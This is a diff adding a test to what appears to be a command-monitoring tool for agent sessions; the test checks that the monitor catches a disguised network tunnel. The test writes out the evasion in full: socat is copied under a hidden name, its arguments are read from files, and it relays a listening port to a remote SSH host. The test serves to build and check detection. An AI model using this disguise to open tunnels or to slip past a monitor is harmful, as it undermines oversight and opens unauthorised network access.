@@ -125,3 +125,22 @@ def test_a_renamed_copy_of_a_shell_is_judged_as_the_shell(state_dir: Path) -> No
         e.fields for e in python]
     assert not [v for v in verdicts if v[1] == "c3"], verdicts
 
+
+
+def test_a_renamed_network_client_is_judged_by_its_argv_as_exec_d(state_dir: Path) -> None:
+    # Held-out attack: a copy of socat whose addresses come from files ($(cat a1)):
+    # the typed line names an unknown program with unknown arguments; the exec shows
+    # socat listening and relaying, judged as a socat command line (tunnels).
+    policy = Policy.from_yaml("name: nested\nresponse:\n  critical: alert\n  high: alert\n")
+    with _session(policy, state_dir) as s:
+        s.exec("mkdir -p .cache && cp \"$(command -v socat)\" .cache/sc && "
+               "echo TCP-LISTEN:2222,reuseaddr,fork > .cache/a1 && "
+               "echo TCP:203.0.113.9:22 > .cache/a2", step=1, call_id="c1", timeout=30)
+        s.exec("timeout 2 .cache/sc $(cat .cache/a1) $(cat .cache/a2); true",
+               step=2, call_id="c2", timeout=30)
+        s.settle()
+        nested = _nested(s, "c2")
+        categories = {c for v in s.verdicts if v.call_id == "c2" for c in v.categories}
+    assert any(e.fields["cmd.raw"].startswith("socat TCP-LISTEN:2222") for e in nested), [
+        e.fields["cmd.raw"] for e in nested]
+    assert "tunnel" in categories, categories
